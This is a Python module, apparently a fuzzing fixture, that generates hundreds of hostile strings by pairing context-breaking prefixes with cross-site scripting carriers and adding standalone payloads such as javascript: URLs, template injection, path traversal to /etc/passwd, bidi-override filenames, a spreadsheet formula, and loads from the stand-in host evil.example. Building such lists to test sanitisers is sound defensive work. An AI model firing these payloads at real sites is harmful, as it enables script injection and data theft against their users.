"""Texts that try to become more than text: families of payloads, combined."""

from __future__ import annotations

RUN = "window.pwned=1"

BREAKERS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></style>",
    "</script>",
    "--><!-- -->",
    "]]>",
    "\\u003c/script\\u003e",
    "&lt;b&gt;",
)
"""What ends the place that a text was written to."""

CARRIERS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    "<embed src=//evil.example/x.swf>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f"<va-line onclick={RUN}>",
    f"<dialog open onclose={RUN}>",
)
"""Elements that run something, load something or change the page."""

ALONE = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"');{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};`",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "expression(alert(1))",
    "url(//evil.example/x)",
    "\u202egnp.exe",
    "\u2066\u202e\u2069\u200f",
    "\ufeff\u200b\u200d",
    "\u0000null\u0000",
    "\u001b[31mred\u001b[0m",
    "\r\nevent: call.ended\r\ndata: {}\r\n\r\n",
    "\u2028\u2029",
    '=HYPERLINK("//evil.example")',
    "../../../../etc/passwd",
    "%3Cscript%3E",
    "&#60;script&#62;",
    "\ud83d\ude00" * 3,
    "Z" + "\u0300" * 80,
    "\u0645\u0631\u062d\u0628\u0627 <b>\u0628\u0643</b>",
    "W" * 3000,
)
"""Other grammars, names of the language itself, and letters that reorder or pile up."""


def hostile_strings() -> list[str]:
    """Return more than 300 of them, no two alike."""
    found = [breaker + carrier for breaker in BREAKERS for carrier in CARRIERS]
    found += [one.encode("utf-16", "surrogatepass").decode("utf-16") for one in ALONE]
    return list(dict.fromkeys(found))
